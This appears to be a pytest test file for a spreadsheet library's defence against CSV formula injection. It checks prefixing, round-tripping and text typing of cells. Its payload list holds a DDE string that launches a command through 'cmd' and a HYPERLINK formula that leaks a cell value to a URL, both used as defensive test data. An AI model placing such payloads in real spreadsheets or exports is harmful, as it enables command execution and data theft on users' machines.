"""Safety row 7: nothing that somebody typed runs as a formula, and a round trip gives the same value back."""

import csv
from pathlib import Path

import openpyxl
import pytest

from kebu.workbooks.injection import prefix, unprefix
from kebu.workbooks.reading import read
from kebu.workbooks.separated import write_csv
from kebu.workbooks.writing import Column, SheetSpec, write_xlsx

pytestmark = pytest.mark.once

PAYLOADS = [
    *(Path(__file__).parents[1] / "examples" / "inj-csv-payloads.txt").read_text().splitlines(),
    *(
        "=1+1",
        "+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1",
        "＋1",
        "－1",
        "＠a",
        "-",
        "=",
        "+86 138 0000 1234",
    ),
    *('=HYPERLINK("http://example.com?"&A1,"x")', "-2+3+cmd|' /C calc'!A0", "-5,=1", "-1e3", "- 5"),
]
HARMLESS = ["示例", "-5", "-12.50", "a=1", "1+1", " =1", "'", "'a", "''", "", "😀"]
APOSTROPHES = ["'=1", "''=1", "'-5", "'+", "'＝", "'\t"]


@pytest.mark.parametrize("text", [text for text in PAYLOADS if not text.startswith("DDE")])
def test_dangerous_text_is_prefixed(text):
    assert prefix(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays(text):
    assert prefix(text) == text


@pytest.mark.parametrize("text", [*PAYLOADS, *HARMLESS, *APOSTROPHES])
def test_unprefix_gives_the_same_text_back(text):
    assert unprefix(prefix(text)) == text


def test_csv_runs_nothing_and_comes_back(tmp_path):
    path = tmp_path / "a.csv"
    texts = [*PAYLOADS, *APOSTROPHES, "\0=1"]
    write_csv(path, ["=标题", "b"], [[text, "x"] for text in texts])
    with open(path, encoding="utf-8-sig", newline="") as file:
        seen = [cell for row in csv.reader(file) for cell in row]
    assert {cell[:1] for cell in seen} <= {"'", "x", "b", "D"}
    rows = read(path, name="a.csv", delimiter=",").sheets[0].rows
    assert [row[0] for row in rows] == ["=标题", *texts[:-1], "=1"]


def test_numbers_are_not_prefixed(tmp_path):
    path = tmp_path / "a.csv"
    write_csv(path, ["a", "b"], [[-5, -0.5]])
    assert path.read_text("utf-8-sig").splitlines()[1] == "-5,-0.5"


def test_xlsx_types_dangerous_text_as_text(tmp_path):
    path = tmp_path / "a.xlsx"
    texts = [*PAYLOADS, *HARMLESS[:-2], *APOSTROPHES]
    spec = SheetSpec("S", [Column("=1+1", note="=1+1", choices=["=1+1", "b"])], [[text] for text in texts])
    write_xlsx(path, [spec])
    cells = [cell for row in openpyxl.load_workbook(path).active for cell in row]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    assert [row[0] if row else "" for row in read(path, name="a.xlsx").sheets[0].rows] == ["=1+1", *texts]
